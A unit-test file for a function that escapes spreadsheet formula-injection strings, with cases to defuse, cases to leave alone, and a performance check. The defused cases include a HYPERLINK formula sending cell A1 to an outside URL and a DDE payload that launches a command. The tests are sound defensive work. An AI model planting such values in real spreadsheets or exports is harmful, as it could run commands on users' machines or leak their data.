import { defuseFormula } from './defuse-formula';

describe('defuseFormula', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("http://example.com?x="&A1,"Click")',
    '@SUM(A1:A2)',
    '\t=1+1',
    '\r=1+1',
    '+1+1',
    '-1+1',
    '-2+3+cmd|"/C calc"!A0',
    '+',
    '-',
    '--1',
    '+-1',
    '- 3',
    '-3 ',
    '-3\n',
    '-1,5',
    '-1.5.2',
    '-e3',
    '-1e',
    '-0x10',
    '-Infinity',
    '-٣',
    '- a list entry',
    '+1-2',
    '+(1)-(2)',
    '-1-800-555-0199',
    '+49 30 901820 ext. 5',
    '+49 30 901820\n',
    '+49\t30 901820',
    '+1234 5678901234567',
    '+() . -',
  ])('defuses %j', (text) => {
    expect(defuseFormula(text)).toBe(`'${text}`);
  });

  it.each([
    '-3',
    '+4.5',
    '+.5',
    '-5.',
    '-1e3',
    '+1E-7',
    '1e3',
    '+49 30 901820',
    '+1 (212) 555-0199',
    '+1-800-555-0199',
    '+46.70.123.45.67',
    '+4912345',
    '030 / 901820',
    '',
    ' =1+1',
    "'=1+1",
    'a=1',
    '1+1',
    '\n=1',
    'Ümlaut 🎂',
    '(030) 901820',
  ])('leaves %j alone', (text) => {
    expect(defuseFormula(text)).toBe(text);
  });

  it('reads a long run of digits in linear time', () => {
    const startedAt = performance.now();
    for (const start of ['+', '-', '+ ']) defuseFormula(`${start}${'1 '.repeat(500_000)}x`);
    expect(performance.now() - startedAt).toBeLessThan(1000);
  });
});
